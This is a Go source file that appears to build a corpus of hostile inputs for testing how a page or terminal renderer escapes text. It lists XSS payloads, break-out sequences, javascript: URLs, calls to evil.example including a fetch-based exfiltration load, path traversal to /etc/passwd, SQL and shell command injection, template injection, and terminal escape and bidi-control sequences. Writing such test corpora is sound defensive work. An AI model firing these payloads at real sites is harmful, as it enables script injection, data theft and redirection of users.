package page

import "strings"

// known are texts that have broken pages, terminals and streams elsewhere.
var known = []string{
	`<script>alert(1)</script>`, `<ScRiPt>alert(1)</sCrIpT>`, `<script src=//evil.example/x.js></script>`, `<img src=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x>`, `<iframe src=javascript:alert(1)>`,
	`<iframe srcdoc="<script>alert(1)</script>">`, `<body onload=alert(1)>`, `<details open ontoggle=alert(1)>`, `<input autofocus onfocus=alert(1)>`,
	`<math><mtext></mtext><script>alert(1)</script></math>`, `<a href="javascript:alert(1)">x</a>`, `<form action=//evil.example><button>x`, `<base href=//evil.example/>`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<style>*{background:url(//evil.example)}</style>`, `<object data=//evil.example>`,
	`<embed src=//evil.example>`, `<video><source onerror=alert(1)>`, `<marquee onstart=alert(1)>`, `<template><script>alert(1)</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `</script><script>alert(1)</script>`,
	`</style><script>alert(1)</script>`, `</main></body></html><script>alert(1)</script>`, `</pre><script>alert(1)</script>`, `</option></select><script>alert(1)</script>`,
	`<!--><script>alert(1)</script>-->`, `--><script>alert(1)</script><!--`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><script/>`,
	`" onmouseover="alert(1)`, `' onmouseover='alert(1)`, "` onmouseover=`alert(1)", `" autofocus onfocus="alert(1)" x="`, `"><script>alert(1)</script>`, `'><script>alert(1)</script>`,
	`" style="background:url(//evil.example)`, `x" href="javascript:alert(1)`, `javascript:alert(1)`, "java\tscript:alert(1)", "\x01javascript:alert(1)", `JaVaScRiPt:alert(1)`,
	`data:text/html,<script>alert(1)</script>`, `vbscript:msgbox(1)`, `//evil.example/x`, `\\evil.example\x`, `https://evil.example/`, `../../../../etc/passwd`,
	`?attempt=2#L1`, `#main`, `%3Cscript%3Ealert(1)%3C/script%3E`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `&quot;onload=alert(1)`,
	`{{.}}`, `{{template "live" .}}`, `${alert(1)}`, `#{alert(1)}`, `<%= alert(1) %>`, `{{constructor.constructor('alert(1)')()}}`,
	`\u003cscript\u003ealert(1)\u003c/script\u003e`, `\x3cscript\x3e`, `'-alert(1)-'`, `";alert(1)//`, `');alert(1);('`, `*/alert(1)/*`, `]]>`, `}}`,
	"\x1b[31m<b>\x1b[0m", "\x1b]0;title\x07x", "\x1b]8;;javascript:alert(1)\x1b\\link\x1b]8;;\x1b\\", "\x1b[2J\x1b[Hx", "\x1bP1$tx\x1b\\y", "\u009b31mx", "\u009d0;x\u009cy", "\x1b]1337;File=:x\x07y",
	"\x1b[8mhidden\x1b[0m", "\x1b(0x\x1b(B", "x\x1b", "x\x1b[", "x\x1b[31", "\x0ex\x0f", "x\x7f", "x\x00y",
	"\u202etxt.exe", "\u202dx\u202c", "\u2066x\u2069", "\u200ex\u200f", "\u061cx", "x\u2028y", "x\u2029y", "\ufeffx", "x\u2060y", "\U000e0041\U000e007fx",
	"x\r\n\r\nevent: end\ndata: \"x\"\n\n", "x\ndata: y", "x\rid: 1\r", "x\n\nretry: 0\n\n", ":\n\nevent: build\ndata: \"<script>\"", "x\r\nSet-Cookie: a=b",
	"\xff\xfe<script>", "\xc0\xbcscript\xc0\xbe", "+ADw-script+AD4-", "\xf0\x28\x8c\x28x", "x\ud7ff\ue000", "﹤script﹥＜script＞",
	strings.Repeat("x", 5000), strings.Repeat("<b>", 500), "a.b/c d&e=f;g?h#i", "x' OR '1'='1", "$(touch x)`touch x`",
	"<script>al\u200bert(1)</script>", "\u202e<script>\u202calert(1)</script>", "\u2067\u202dx\u2069", "\u2068x\u2069", "a\u202ab\u202cc", "x\u202b", "\u180ex", "x\u00ady", "\ufff9x\ufffay\ufffb", "\U0001d173x", "\U000e0001en", "x\u200b\u200by",
	"\x1b[38;2;1;2;3mx", "\x1b[48;5;300mx", "\x1b[;;;;;mx", "\x1b]52;c;eA==\x07x", "\x1b]4;1;?\x07x", "\x1b]11;#000\x1b\\x", "\x1b[6nx", "\x1b[5ix", "\x1b[?1049hx", "\x1b[?25lx", "\x1b[1;1r x", "\x1b[21tx", "\x1b[20;5Hx", "\x1b^x\x1b\\y", "\x1b_Ga=T;AAAA\x1b\\x", "\x1bXx\x1b\\y", "\x1bcx", "\x1b#8x", "\x1b[4hx", "\x1b%Gx", "\u0090x\u009cy", "\u0098x\u009cy", "\u009ex\u009cy",
	"x\r\rdata: y\r\r", "event: end", "id: 99\n", "retry: 1", "data: {\"lines\":[]}", "\ufeffdata: x\n\n", "x\u0085\u0085data: y", "x\u2028data: y\u2029", "x\x0b\x0cy", "x\n\n\n\ny",
	`{{printf "%s" "<script>"}}`, `{{/*`, `{{end}}`, `{{define "x"}}`, "{{`x`}}", `[[${7*7}]]`, `{%x%}`, `<?= 1 ?>`, `<!--#exec cmd="x"-->`, `@{alert(1)}`, `:alert(1):`, `%{x}`,
	`javascript&colon;alert(1)`, `&#106;avascript:alert(1)`, `javascript://%0aalert(1)`, ` javascript:alert(1)`, "javascript\n:alert(1)", `feed:javascript:alert(1)`, `blob:null/x`, `filesystem:x`, `data:image/svg+xml,<svg onload=alert(1)>`, `view-source:x`, `file:///etc/passwd`, `http:evil.example`, `///evil.example`, `/\evil.example`, `\/\/evil.example`, `https:/evil.example`, `?next=//evil.example`, `;jsessionid=x`, `..%2f..%2f`, `%00`, `%0d%0aSet-Cookie:x`, `@evil.example`, `x@evil.example:80`, `[::1]`, `#"><script>alert(1)</script>`,
}

// Ways out of where a text stands, and what somebody would put behind them.
var (
	exits = []string{`">`, `'>`, "`>", `">​</svg>`, `</a></li></ol>`, `</title></head><body>`, `</text></svg>`, `</textarea></select></option>`, `--!><!--`, `]]>`, `</pre></code></p>`}
	loads = []string{
		`<script>alert(1)</script>`, `<script type=module>alert(1)</script>`, `<script>fetch("//evil.example")</script>`, `<img src=x onerror=alert(1)>`, `<img src=//evil.example/x.png>`, `<svg/onload=alert(1)>`,
		`<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`, `<a href=javascript:alert(1) id=main>x</a>`, `<input autofocus onfocus=alert(1)>`, `<style>@import "//evil.example";</style>`,
		`<form action=//evil.example id=live><button autofocus>x</button></form>`, `<p style="position:fixed;inset:0">x`,
	}
)

// attacks are what somebody could call a branch, a test, a file or themselves.
var attacks = func() []string {
	all := known
	for _, exit := range exits {
		for _, load := range loads {
			all = append(all, exit+load)
		}
	}
	return all
}()
